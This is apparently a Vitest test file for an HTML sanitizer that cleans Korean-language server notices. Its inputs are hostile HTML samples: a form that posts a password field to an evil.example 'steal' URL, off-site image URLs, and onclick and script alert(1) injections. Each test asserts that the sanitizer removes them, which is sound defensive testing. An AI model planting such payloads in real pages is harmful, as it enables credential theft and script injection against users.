// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html.ts';

const render = (html: string) => {
  const host = document.createElement('div');
  host.innerHTML = sanitizeHtml(html);
  return host;
};

describe('sanitizeHtml (server HTML: notices, alerts)', () => {
  it('removes forms and their controls, keeping the text around them', () => {
    const host = render(
      '<p>공지</p><form action="https://evil.example/steal" method="post"><input name="pw" type="password">' +
        '<button formaction="https://evil.example/x">확인</button><textarea>t</textarea><select><option>1</option></select></form>' +
        '<input type="text" form="elsewhere">',
    );
    expect(host.querySelector('form, input, button, textarea, select, option')).toBeNull();
    expect(host.innerHTML).not.toContain('evil.example');
    expect(host.textContent).toContain('공지');
  });

  it('removes pictures from other sites and keeps ours and inline ones', () => {
    const host = render(
      '<p>사진</p><img src="https://evil.example/x.png" alt="off-site">' +
        '<img src="//evil.example/y.png" alt="protocol-relative">' +
        `<img src="${window.location.origin}/media/products/1001.svg" alt="absolute own">` +
        '<img src="/media/banners/3.svg" alt="own">' +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' +
        '<img src="/media/products/1002.svg" srcset="https://evil.example/z.png 2x" alt="srcset">',
    );
    const kept = [...host.querySelectorAll('img')].map((img) => img.getAttribute('alt'));
    expect(kept).toEqual(['absolute own', 'own', 'inline', 'srcset']);
    expect(host.innerHTML).not.toContain('evil.example');
    expect(host.querySelector('img[alt="srcset"]')?.getAttribute('src')).toBe('/media/products/1002.svg');
  });

  it('still removes scripts and handlers, and keeps ordinary formatting and links', () => {
    const host = render(
      '<b onclick="alert(1)">굵게</b><script>alert(1)</script><a href="https://www.jecheol.kr/notice">링크</a>',
    );
    expect(host.innerHTML).toBe('<b>굵게</b><a href="https://www.jecheol.kr/notice">링크</a>');
  });
});
